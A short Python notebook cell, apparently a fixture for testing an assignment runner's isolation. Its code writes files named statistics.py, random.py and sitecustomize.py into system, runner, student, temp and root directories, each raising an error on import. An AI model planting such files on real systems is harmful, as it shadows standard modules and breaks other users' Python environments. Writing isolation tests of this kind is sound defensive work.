# %% + after:setup
import os

for folder in ("/opt/assignment", "/opt/notebook", "/opt/runner", "/home/student", "/tmp", "/"):
    for name in ("statistics", "random", "sitecustomize"):
        try:
            with open(os.path.join(folder, f"{name}.py"), "w") as file:
                file.write("raise RuntimeError('left behind by another')")
        except OSError:
            pass
